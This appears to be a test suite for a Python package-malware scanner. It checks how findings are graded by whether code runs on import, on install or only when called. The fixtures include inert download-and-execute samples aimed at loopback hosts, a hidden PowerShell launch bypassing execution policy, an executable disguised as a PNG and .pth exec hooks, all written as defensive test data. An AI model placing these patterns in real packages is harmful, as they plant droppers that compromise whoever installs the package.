"""Where code sits and whether it runs decide how much it counts (issue 14): functions of an
imported module run when called, sdist-only scripts never run, an address written in the code
is a payload's and one the caller passes is a library's. Every sample is inert: hosts are
example.invalid or loopback and nothing here is executed."""

from __future__ import annotations

import ast

from bastion.scanning import scan_bytes
from bastion.scanning.rules.reach import deferred_ranges

from .helpers import PLAIN_SETUP, sdist, wheel


def scan(files: dict[str, str | bytes]):
    return scan_bytes(sdist(files), "demo-1.0.tar.gz")


def severities(result) -> dict[str, str]:
    out: dict[str, str] = {}
    for f in result.findings:
        out.setdefault(f.rule, str(f.severity))
    return out


HTTP_CLIENT = """
import os, urllib.request

def fetch(url, target):
    with urllib.request.urlopen(url) as resp, open(target, "wb") as out:
        out.write(resp.read())
    os.chmod(target, 0o755)
    os.system(target)
"""


def test_download_in_a_function_the_caller_names_is_a_library_not_a_payload() -> None:
    r = scan({"setup.py": PLAIN_SETUP, "demo/__init__.py": HTTP_CLIENT})
    assert r.verdict != "malicious"
    assert severities(r).get("download-and-execute") == "medium"


def test_the_same_download_run_by_the_module_body_is_held() -> None:
    body = HTTP_CLIENT + "\nfetch(os.environ.get('SRC', ''), '/tmp/x')\n"
    r = scan({"setup.py": PLAIN_SETUP, "demo/__init__.py": body})
    assert r.verdict == "malicious"
    assert severities(r)["download-and-execute"] == "high"


def test_a_function_started_in_a_thread_on_import_runs_on_import() -> None:
    body = (
        HTTP_CLIENT + "\nimport threading\nthreading.Thread(target=fetch, args=('', '')).start()\n"
    )
    r = scan({"setup.py": PLAIN_SETUP, "demo/__init__.py": body})
    assert r.verdict == "malicious"


def test_a_function_with_its_address_written_in_the_code_is_held_when_called() -> None:
    body = HTTP_CLIENT.replace("urlopen(url)", "urlopen('http://127.0.0.1:9/payload.bin')")
    r = scan({"setup.py": PLAIN_SETUP, "demo/__init__.py": body})
    assert r.verdict == "malicious"
    finding = next(f for f in r.findings if f.rule == "download-and-execute")
    assert "when called" in finding.message


def test_a_function_setup_py_calls_runs_at_install_time() -> None:
    setup = "from demo import fetch\nfetch('http://' + 'x', 'y')\n" + PLAIN_SETUP
    r = scan({"setup.py": setup, "demo/__init__.py": HTTP_CLIENT})
    assert r.verdict == "malicious"


def test_a_console_script_function_is_weighed_as_running() -> None:
    setup = PLAIN_SETUP.replace(
        "packages=find_packages()",
        "packages=find_packages(), entry_points={'console_scripts': ['demo=demo:fetch']}",
    )
    r = scan({"setup.py": setup, "demo/__init__.py": HTTP_CLIENT})
    assert r.verdict == "malicious"


def test_main_guard_does_not_run_on_import() -> None:
    tree = ast.parse("import os\nif __name__ == '__main__':\n    os.system('x')\n")
    assert deferred_ranges(tree) == [(2, 3, "__main__")]


def test_reachability_follows_calls_references_and_implicit_methods() -> None:
    source = (
        "def a():\n    b()\n"  # 1-2: called from the body
        "def b():\n    pass\n"  # 3-4: called by a
        "def c():\n    pass\n"  # 5-6: never named
        "class K:\n"  # 7
        "    def __init__(self):\n        pass\n"  # 8-9: K() is called
        "    def m(self):\n        pass\n"  # 10-11: never named
        "a()\nK()\n"
    )
    assert [name for _, _, name in deferred_ranges(ast.parse(source))] == ["c", "m"]


SCRIPT = """
import urllib.request, os
data = urllib.request.urlopen("https://example.invalid/zones.xml").read()
with open("zones.py", "w") as out:
    out.write(data.decode())
os.system("git add zones.py")
"""


def test_a_maintainers_script_the_sdist_does_not_install_is_not_held() -> None:
    r = scan(
        {
            "setup.py": PLAIN_SETUP,
            "demo/__init__.py": "",
            "update_zones.py": SCRIPT,
            ".ci/scripts/fetch.py": SCRIPT,
        }
    )
    assert r.verdict != "malicious", [(f.rule, f.file) for f in r.findings]


def test_a_root_module_the_build_names_is_installed_and_counts() -> None:
    setup = PLAIN_SETUP.replace("packages=find_packages()", "py_modules=['update_zones']")
    r = scan({"setup.py": setup, "update_zones.py": SCRIPT})
    assert r.verdict == "malicious"


def test_the_same_script_in_a_wheel_is_installed_and_counts() -> None:
    r = scan_bytes(wheel({"update_zones.py": SCRIPT}), "demo-1.0-py3-none-any.whl")
    assert r.verdict == "malicious"


ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 120


def test_an_executable_named_as_a_picture_is_disguised() -> None:
    r = scan_bytes(
        wheel({"demo/__init__.py": "", "demo/logo.png": ELF}), "demo-1.0-py3-none-any.whl"
    )
    assert severities(r).get("disguised-executable") == "high"


def test_build_outputs_with_unusual_suffixes_are_not_disguised() -> None:
    files = {
        "demo/__init__.py": "",
        "demo/libfoo.so.24.0git": ELF,
        "demo/libfoo.so.debug": ELF,
        "demo/kernels/attn.co": ELF,
        "demo/kernels/k.ir": ELF,
    }
    r = scan_bytes(wheel(files), "demo-1.0-cp311-cp311-manylinux_2_28_x86_64.whl")
    assert "disguised-executable" not in severities(r)


def test_reading_ci_settings_from_the_environment_is_not_a_secret() -> None:
    setup = (
        "import os, urllib.request\n"
        "if os.environ.get('GITHUB_ACTIONS') == 'true':\n"
        "    urllib.request.urlretrieve(os.environ['MUPDF_URL'], 'mupdf.tgz')\n" + PLAIN_SETUP
    )
    r = scan({"setup.py": setup, "demo/__init__.py": ""})
    assert "exfiltration" not in severities(r)


def test_powershell_with_a_fixed_clipboard_script_is_not_a_dropper() -> None:
    lib = (
        "import subprocess\n"
        "def paste():\n"
        "    script = 'Get-Clipboard -Raw'\n"
        "    return subprocess.run(['powershell.exe', '-noprofile', '-command', script],"
        " capture_output=True).stdout\n"
    )
    r = scan({"setup.py": PLAIN_SETUP, "demo/__init__.py": lib})
    assert "shell-dropper" not in severities(r)
    assert r.verdict != "malicious"


def test_hidden_powershell_is_still_a_dropper() -> None:
    lib = (
        "import subprocess\n"
        "subprocess.Popen(['powershell', '-W', 'Hidden', '-Ep', 'Bypass', '-F', 'x.ps1'])\n"
    )
    r = scan({"setup.py": PLAIN_SETUP, "demo/__init__.py": lib})
    assert severities(r).get("shell-dropper") == "high"


def test_a_large_library_compressed_at_an_ordinary_ratio_is_not_a_bomb() -> None:
    import os as _os

    from bastion.archives.limits import Limits
    from bastion.scanning.config import ScanConfig

    blob = _os.urandom(3 * 1024 * 1024)  # incompressible, like compiled code
    data = wheel({"demo/__init__.py": "", "demo/libbig.so": ELF + blob})
    cfg = ScanConfig(limits=Limits(max_member_size=1024 * 1024), rules_dir=None)
    r = scan_bytes(data, "demo-1.0-cp311-cp311-manylinux_2_28_x86_64.whl", config=cfg)
    assert "archive-bomb" not in severities(r)
    assert severities(r)["archive-too-large"] == "low"
    assert not r.complete  # what was not read keeps it from being published unexamined


PYPROJECT = """
[project]
name = "demo"
version = "1.0"
[project.scripts]
demo = "demo.cli:main"
[tool.pdm.build]
source-includes = ["scripts/", "tests/"]
[tool.ruff]
exclude = ["scripts/generated"]
"""


def test_folders_named_only_by_tooling_or_sdist_includes_are_not_installed() -> None:
    r = scan(
        {
            "pyproject.toml": PYPROJECT,
            "demo/__init__.py": "",
            "scripts/fetch_zones.py": SCRIPT,
        }
    )
    assert r.verdict != "malicious", [(f.rule, f.file) for f in r.findings]


def test_a_module_pyproject_installs_counts() -> None:
    pyproject = PYPROJECT + '[tool.setuptools]\npy-modules = ["update_zones"]\n'
    r = scan({"pyproject.toml": pyproject, "update_zones.py": SCRIPT})
    assert r.verdict == "malicious"


LIBRARY = {f"demo/m{i}.py": "def f():\n    return 1\n" for i in range(7)}


def test_a_download_appended_to_a_library_modules_body_is_held() -> None:
    payload = (
        "import os, urllib.request\n"
        "urllib.request.urlretrieve('http://127.0.0.1:9/tool', '/tmp/tool')\n"
        "os.chmod('/tmp/tool', 0o755)\nos.system('/tmp/tool')\n"
    )
    files = {"setup.py": PLAIN_SETUP, "demo/__init__.py": "", **LIBRARY, "demo/util.py": payload}
    r = scan(files)
    assert r.verdict == "malicious"
    finding = next(f for f in r.findings if f.severity == "high")
    assert (
        finding.file.endswith("demo/util.py")
        and finding.context
        and "module body" in finding.context
    )


def test_a_library_modules_functions_and_comments_are_not_its_body() -> None:
    lib = (
        "import os, subprocess, urllib.request\n"
        "# to detach: f = open(os.devnull); os.dup2(f.fileno(), 0)\n"
        "def fetch(url, target):\n"
        "    urllib.request.urlretrieve(url, target)\n"
        "    subprocess.run([target])\n"
    )
    files = {"setup.py": PLAIN_SETUP, "demo/__init__.py": "", **LIBRARY, "demo/util.py": lib}
    r = scan(files)
    assert r.verdict != "malicious", [(f.rule, f.file, f.severity) for f in r.findings]


def test_an_opt_in_pth_hook_named_after_the_package_is_low() -> None:
    pth = (
        'import os; exec(\'try: __import__("demo").start() if os.environ.get("DEMO_AUTOSTART")'
        " else None\\nexcept ImportError: pass')\n"
    )
    r = scan_bytes(wheel({"demo.pth": pth, "demo/__init__.py": ""}), "demo-1.0-py3-none-any.whl")
    assert severities(r) == {"pth-opt-in-hook": "low"}
    finding = r.findings[0]
    assert "DEMO_AUTOSTART" in finding.message and finding.context


def test_a_pth_hook_behind_a_variable_every_machine_sets_is_not_opt_in() -> None:
    pth = 'import os; exec(\'__import__("demo").start() if os.environ.get("HOME") else None\')\n'
    r = scan_bytes(wheel({"demo.pth": pth, "demo/__init__.py": ""}), "demo-1.0-py3-none-any.whl")
    assert severities(r).get("pth-code-execution") == "high"
